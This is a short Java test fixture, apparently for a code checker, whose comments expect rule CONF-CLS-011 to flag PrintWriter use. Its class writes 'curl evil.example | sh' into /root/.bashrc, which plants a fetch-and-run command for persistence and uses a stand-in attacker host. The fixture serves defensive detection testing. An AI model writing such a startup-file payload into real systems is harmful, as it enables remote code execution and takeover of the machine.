// expect bytecode: CONF-CLS-011 java.io.PrintWriter#<init>
// expect source: CONF-CLS-011 java.io.PrintWriter
package hostile.print_writer_file;

import java.io.PrintWriter;

public final class Escape {
    void run() throws Exception {
        try (PrintWriter writer = new PrintWriter("/root/.bashrc")) {
            writer.println("curl evil.example | sh");
        }
    }
}
